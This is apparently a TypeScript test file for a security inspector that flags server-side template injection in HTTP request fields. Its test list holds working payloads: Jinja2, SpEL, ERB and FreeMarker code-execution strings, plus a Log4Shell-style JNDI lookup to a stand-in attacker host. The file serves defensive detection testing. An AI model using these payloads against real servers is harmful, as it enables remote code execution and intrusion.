/** command-injection: template and expression-language values a server-side engine would evaluate, any field. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandInjectionInspector as insp } from '../../src/pipeline/inspect/inspectors/command-injection.js';
import { templateInjection } from '../../src/pipeline/inspect/lib/template-expressions.js';
import { runArgs } from './inspect-helpers.js';
import { cpuMsOf } from '../support/cpu-time.js';

const kinds = (value: string, key = 'name') =>
  runArgs(insp, 'http.post', { [key]: value }).map((f) => `${f.id}:${f.severity}`);

describe('template injection', () => {
  const reach = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    '${jndi:ldap://attacker.test/a}',
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<%= system('id') %>",
    "{{constructor.constructor('alert(1)')()}}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>',
  ];
  for (const v of reach)
    it(`flags code reached from a template: ${v.slice(0, 30)}`, () => {
      expect(kinds(v)).toContain('command-injection.template-injection:critical');
    });

  it('reports arithmetic probes in any delimiter and any field name as medium', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(['{{', '}}'], ['${', '}'], ['#{', '}'], ['<%=', '%>']),
        fc.integer({ min: 2, max: 999 }),
        fc.constantFrom('q', 'comment', 'title', 'x'),
        ([open, close], n, key) => {
          expect(kinds(`${open}${n}*${n}${close}`, key)).toContain('command-injection.template-probe:medium');
        },
      ),
      { numRuns: 40 },
    );
  });

  it('leaves ordinary templates, shell variables and prose alone', () => {
    for (const v of [
      'Hello {{ name }}, your order {{ order.id }} shipped',
      'echo ${HOME}/bin',
      'the __class__ attribute of a Python object',
      'price is 7*7',
      '{"a": {"b": 1}}',
    ])
      expect(templateInjection(v), v).toBeNull();
  });

  it('stays linear on openers and markers repeated', () => {
    for (const unit of ['{{', '${x__class__', 'x__class__', '<%= 7*']) {
      const time = (n: number) => {
        const text = unit.repeat(n / unit.length);
        return cpuMsOf(() => templateInjection(text));
      };
      expect(time(1 << 20), unit).toBeLessThan(Math.max(8 * time(1 << 18), 60));
    }
  });
});
